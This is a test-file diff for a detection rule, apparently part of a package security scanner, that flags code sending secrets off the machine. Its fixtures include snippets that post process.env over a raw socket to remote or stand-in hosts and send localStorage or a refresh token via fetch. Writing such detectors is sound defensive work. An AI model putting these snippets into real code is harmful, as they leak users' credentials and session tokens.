@@ -245,3 +245,29 @@ describe('JS-010 cloud credentials from the metadata service', () => {
     expect(await ruleFindings('JS-010', meta)).toHaveLength(0);
   });
 });
+
+describe('JS-010 what is not the network, and what is one item', () => {
+  it('ignores a local socket (a daemon over a Unix socket or a localhost port), not a remote one', async () => {
+    const ipc = `const { connect } = require('net');
+      function send(paths, payload) { const s = connect(paths.socket); s.write(JSON.stringify(payload)); }
+      module.exports = () => send(paths, { env: process.env });`;
+    expect(await ruleFindings('JS-010', ipc)).toHaveLength(0);
+    const remote = `const net = require('net');
+      const s = net.connect(4444, '192.0.2.1'); s.write(JSON.stringify(process.env));`;
+    expect(await ruleFindings('JS-010', remote)).toHaveLength(1);
+    const remoteOptions = `const net = require('net');
+      net.createConnection({ host: 'x.invalid', port: 80 }).write(JSON.stringify(process.env));`;
+    expect(await ruleFindings('JS-010', remoteOptions)).toHaveLength(1);
+  });
+  it('one storage item is a weaker source than the whole storage', async () => {
+    // in the package main, where a web app sends its own session token, one item weighs medium
+    const item =
+      "fetch('https://api.x.invalid/refresh', { method: 'POST', body: localStorage.getItem('refresh_token') });";
+    expect((await ruleFindings('JS-010', item))[0]?.severity).toBe('medium');
+    const viaHelper = `const store = () => globalThis.localStorage;
+      const s = store(); fetch('https://api.x.invalid/t', { method: 'POST', body: s.getItem('k') });`;
+    expect((await ruleFindings('JS-010', viaHelper))[0]?.severity).toBe('medium');
+    const all = "fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(localStorage) });";
+    expect((await ruleFindings('JS-010', all))[0]?.severity).toBe('critical');
+  });
+});
